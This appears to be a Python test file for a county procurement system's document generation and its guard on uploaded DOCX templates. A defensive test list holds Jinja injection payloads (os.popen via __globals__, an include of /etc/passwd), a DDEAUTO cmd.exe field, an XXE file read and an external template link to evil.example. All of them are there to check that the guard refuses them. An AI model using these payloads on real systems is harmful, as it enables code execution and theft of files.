"""The procurement document and its templates: complete by Article 20, the county's own look, no code of anybody's."""

from __future__ import annotations

import io
import re
import zipfile
from dataclasses import replace
from decimal import Decimal
from typing import Any

import docx
import httpx
import pytest

from catalogue.listings.drafts import Terms
from catalogue.notices.content import as_json
from catalogue.notices.document import ARTICLE_20, parts
from catalogue.notices.queries import latest_paper
from catalogue.notices.sample import sample_listing, sample_paper
from catalogue.notices.shipped_template import shipped_template
from catalogue.notices.templates import DOCX, template_values
from marketplace.gateways.docx import TemplateRefused, fill_template
from marketplace.kernel.db import fetchval
from marketplace.site import notice_jobs
from tests.builders_catalogue import a_published_listing, n1_scoring, with_past_performance
from tests.pages import send, sign_in, words
from tests.papers import needs_press, pdf_words

Client = httpx.AsyncClient
PAGE = "/listings/JT-2026-0001/notices/document"


def a_template(*lines: str, **parts_added: str) -> bytes:
    """A template of the county with these paragraphs, and perhaps foreign parts in the package."""
    document = docx.Document()
    for line in lines:
        document.add_paragraph(line)
    out = io.BytesIO()
    document.save(out)
    if parts_added:
        with zipfile.ZipFile(out, "a") as package:
            for name, content in parts_added.items():
                package.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return out.getvalue()


def docx_words(content: bytes) -> str:
    document = docx.Document(io.BytesIO(content))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join([paragraph.text for paragraph in document.paragraphs] + cells)


def values_of(address: str) -> dict[str, Any]:
    return template_values(replace(sample_paper("document"), address=address), sample_listing())


def pictures(content: bytes) -> list[bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return [package.read(name) for name in package.namelist() if name.startswith("word/media/")]


async def test_the_docx_carries_the_code_and_the_address_of_its_page_and_the_same_bytes_each_time() -> None:
    address = "https://county.example/listings/JT-2026-0001/notices/document"
    filled = await fill_template(shipped_template(), values_of(address))
    assert len(pictures(filled)) == 1 and pictures(filled)[0].startswith(b"\x89PNG") and address in docx_words(filled)
    assert filled == await fill_template(shipped_template(), values_of(address))
    other = await fill_template(shipped_template(), values_of(f"{address}/2"))
    assert pictures(other) != pictures(filled)
    assert pictures(await fill_template(shipped_template(), values_of(""))) == []


async def test_a_template_of_the_county_places_the_code_and_reaches_nothing_through_it() -> None:
    values = values_of("https://county.example/x")
    assert len(pictures(await fill_template(a_template("{{ title }}", "{{ code }}"), values))) == 1
    assert pictures(await fill_template(a_template("{{ title }}"), values)) == []
    for reached in ("{{ code._document }}", "{{ code._document.save('x') }}", "{{ code.__html__() }}",
                    "{{ code.__class__ }}"):  # fmt: skip
        with pytest.raises(TemplateRefused):
            await fill_template(a_template(reached), values)


def test_R_DOC_02_every_item_of_article_20_has_a_part_with_something_in_it() -> None:
    answered = {item for part in parts() for item in part["art20"]}
    assert answered == set(ARTICLE_20) == set(range(1, 17))
    assert [
        part["heading"] for part in parts() if not (part.get("lines") or part.get("blocks") or part.get("rules"))
    ] == []


async def test_R_DOC_02_the_document_says_all_sixteen_things_of_this_listing(client: Client, clock: Any) -> None:
    await a_published_listing(await clock.now(), scoring=with_past_performance(n1_scoring()))
    said = words((await client.get(PAGE)).text)
    wanted = {
        1: "邀请符合资格条件的供应商参加",
        2: "密封、签署和盖章",
        3: "供应商应当提交的资格、资信证明文件",
        4: "中小企业声明函",
        5: "本项目不收取投标（响应）保证金",
        6: "项目预算 ¥505,000.00，最高限价 ¥505,000.00",
        7: "家计调查：对新申请家庭入户调查",
        8: "政府购买服务合同",
        9: "服务地点：赵镇街道办事处",
        10: "按下列节点付款",
        11: "响应文件无效的情形",
        12: "有效期为提交截止之日起 90 日",
        13: "2026年3月16日14:00（北京时间）",
        14: "没有委托采购代理机构，不收取代理费用",
        15: "信用中国",
        16: "质疑",
    }
    assert [number for number, words_ in wanted.items() if words_ not in said] == []
    # what may not be deviated from is marked; criteria stand with their bands; forms for the bid are there
    for word in (
        "★报价超过最高限价",
        "缺一项减",
        "没有评价记录（中性档）",
        "报价表",
        "资格承诺函",
        "授权书",
        "人员一览表",
    ):
        assert word in said, word
    assert "¥____" in said  # the draft contract leaves the price open
    english = (await client.get(f"/en{PAGE}")).text
    assert '<article class="paper" lang="zh-CN">' in english


async def test_R_DOC_05_notice_and_document_say_the_terms_of_the_listing(client: Client, clock: Any) -> None:
    terms = Terms(
        admits_consortium=False, subcontract_share=Decimal(20), subcontract_parts="宣传品印制",
        bid_deposit=Decimal("5050.00"), performance_bond=Decimal(5), advance_payment=Decimal(30),
        low_mean=Decimal(60), handover="到期前 30 日移交全部档案。",
    )  # fmt: skip
    found = await a_published_listing(await clock.now(), terms=terms)
    said = words((await client.get(PAGE)).text)
    for word in (
        "★保证金 ¥5,050.00", "★履约保证金为合同金额的 5%", "30% 的预付款", "★本项目不接受联合体",
        "20%，限于：宣传品印制", "平均值的 60%，或者次低报价的 50%，或者最高限价的 45%", "到期前 30 日移交全部档案。",
    ):  # fmt: skip
        assert word in said, word
    assert "不收取投标（响应）保证金" not in said and "不收取履约保证金" not in said
    notice = words((await client.get(f"/listings/{found.reference}/notices/consultation")).text)
    for word in ("本项目是否接受联合体投标 否", "¥5,050.00", "合同金额的 30%", "合同金额的 20%"):
        assert word in notice, word
    english = words((await client.get(f"/en/listings/{found.reference}/notices/consultation")).text)
    assert "30% of the contract price" in english and "Performance bond" in english


async def test_R_ROLE_12_a_listing_that_says_nothing_admits_consortia(client: Client, clock: Any) -> None:
    found = await a_published_listing(await clock.now())
    notice = words((await client.get(f"/listings/{found.reference}/notices/consultation")).text)
    assert "本项目是否接受联合体投标 是" in notice
    assert "本项目接受联合体" in words((await client.get(PAGE)).text)


async def test_R_COM_06_the_document_says_that_the_panel_sees_no_names_only_where_it_was_printed(
    client: Client, clock: Any
) -> None:
    hidden = await a_published_listing(await clock.now(), method="open_tender", terms=Terms(hides_names=True))
    said = words((await client.get(f"/listings/{hidden.reference}/notices/document")).text)
    assert "本项目隐去供应商名称评审" in said and "全部成员锁定评分以后才显示供应商名称" in said


async def test_an_open_tender_speaks_of_bids_and_not_of_responses(client: Client, clock: Any) -> None:
    await a_published_listing(await clock.now(), method="open_tender")
    said = words((await client.get(PAGE)).text)
    assert "隐去供应商名称" not in said
    assert "投标文件无效的情形" in said and "投标函" in said and "响应文件无效" not in said


async def test_the_document_is_published_as_docx_without_a_press(client: Client, clock: Any, monkeypatch: Any) -> None:
    await a_published_listing(await clock.now())
    monkeypatch.setattr(notice_jobs, "_is_able", set())
    monkeypatch.setattr(notice_jobs, "missing_packages", lambda: ("libpango-1.0-0",))
    for _ in range(2):
        await notice_jobs.press_due(await clock.now())
    assert await latest_paper("JT-2026-0001", "document") is None
    row = await latest_paper("JT-2026-0001", "document", DOCX)
    assert row is not None and row["version"] == 1
    content = (await client.get(f"/papers/{row['id']}")).content
    said = docx_words(content)
    for word in ("第五章　评审办法和标准", "服务方案", "政府购买服务合同", "报价表", "内容对照表"):
        assert word in said, word


@needs_press
async def test_document_pdf_and_docx_say_the_same(client: Client, clock: Any) -> None:
    await a_published_listing(await clock.now())
    await sign_in(client, "li.qiang")
    assert (await send(client, f"{PAGE}/pdf")).status_code == 303
    page = (await client.get(PAGE)).text
    files = {}
    for address in set(re.findall(r"/papers/[0-9a-f-]{36}", page)):
        answer = await client.get(address)
        files[answer.headers["content-type"]] = answer.content
    said = pdf_words(files["application/pdf"])
    lines = ["".join(line.split()) for line in docx_words(files[DOCX]).split("\n") if "____" not in line]
    assert len(lines) > 150
    missing = [line for line in lines if line[:20] not in said]
    assert len(missing) < len(lines) / 50, missing  # a line that a page's end cuts in two


async def test_the_same_paper_gives_the_same_docx() -> None:
    values = as_json(sample_paper("document"))
    assert await fill_template(shipped_template(), values) == await fill_template(shipped_template(), values)


async def test_a_county_replaces_a_template_and_goes_back(client: Client, clock: Any) -> None:
    await a_published_listing(await clock.now())
    await sign_in(client, "admin")
    own = a_template("{{ buyer }}的文件：{{ project_name }}，预算 {{ budget }} 元", "{{ title }}")
    answer = await send(client, "/paper-templates/document", files={"template": ("本县.docx", own, DOCX)})
    assert answer.status_code == 303, words(answer.text)
    assert "本县.docx" in (await client.get("/paper-templates")).text
    assert (await client.get("/paper-templates/document")).content == own
    await notice_jobs.press_due(await clock.now())
    row = await latest_paper("JT-2026-0001", "document", DOCX)
    assert row is not None
    said = docx_words((await client.get(f"/papers/{row['id']}")).content)
    assert said.startswith("赵镇街道办事处的文件：购买社会救助服务，预算 505000.00 元")
    for _ in range(2):
        assert (await send(client, "/paper-templates/document/shipped")).status_code == 303
    assert (await client.get("/paper-templates/document")).content == shipped_template()
    assert await fetchval("SELECT count(*) FROM paper_template") == 1  # what was used stays on record


HOSTILE = {
    "code": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "format": "{{ '{0.__class__}'.format(title) }}",
    "unknown": "{{ secret_key }}",
    "attribute": "{{ title.no_such_thing }}",
    "import": "{% import 'os' as os %}{{ os }}",
    "include": "{% include '/etc/passwd' %}",
    "syntax": "{% for line in sections %}",
    "memory": "{{ 'x' * 9999999999 }}",
    "time": "{% for a in preface %}" * 2 + "{% for c in requirement * 9 %}x{% endfor %}" + "{% endfor %}" * 2,
    "nested": "{% for a in title %}" * 18 + "x" + "{% endfor %}" * 18,
    "loop": "{% for i in range(999999999) %}x{% endfor %}",
    "globals": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "number": "{{ 9 ** 9999999999 }}",
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
async def test_a_hostile_template_is_refused_and_runs_nothing(client: Client, clock: Any, name: str) -> None:
    await a_published_listing(await clock.now())
    await sign_in(client, "admin")
    file = {"template": ("x.docx", a_template(HOSTILE[name]), DOCX)}
    answer = await send(client, "/paper-templates/document", files=file)
    assert answer.status_code == 422, words(answer.text)
    assert "模板" in words(answer.text).split("有些内容需要修改")[1][:80]
    assert await fetchval("SELECT count(*) FROM paper_template") == 0


@pytest.mark.parametrize(
    ("part", "content"),
    [
        ("word__embeddings__oleObject1_dot_bin", "MZ"),
        ("word__activeX__activeX1_dot_xml", "<x/>"),
        (
            "word__foreign_dot_rels",
            '<Relationships><Relationship Id="r1" Type="x/attachedTemplate" Target="http://evil.example/t.dotm"'
            ' TargetMode="External"/></Relationships>',
        ),
        ("word__more_dot_xml", '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe "/k calc" </w:instrText>'),
        ("word__entity_dot_xml", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
    ],
)
async def test_a_template_that_reaches_outside_is_refused(part: str, content: str) -> None:
    with pytest.raises(TemplateRefused):
        await fill_template(a_template("{{ title }}", **{part: content}), as_json(sample_paper("document")))


async def test_what_people_wrote_is_text_and_never_part_of_a_template() -> None:
    values = template_values(sample_paper("document"), sample_listing())
    values["title"] = "{{ ''.__class__ }} <w:p/> &amp;"
    said = docx_words(await fill_template(a_template("{{ title }}"), values))
    assert said == "{{ ''.__class__ }} <w:p/> &amp;"


async def test_templates_are_for_the_administrator_and_of_known_papers(client: Client, clock: Any) -> None:
    await a_published_listing(await clock.now())
    await sign_in(client, "wang.min")
    assert (await client.get("/paper-templates")).status_code == 403
    await sign_in(client, "admin")
    own = {"template": ("x.docx", a_template("{{ title }}"), DOCX)}
    assert (await send(client, "/paper-templates/nothing", files=own)).status_code == 404
    for bad in ({}, {"template": ("x.txt", b"text", "text/plain")}, {"template": ("x.docx", b"PK", DOCX)}):
        assert (await send(client, "/paper-templates/document", files=bad)).status_code == 422
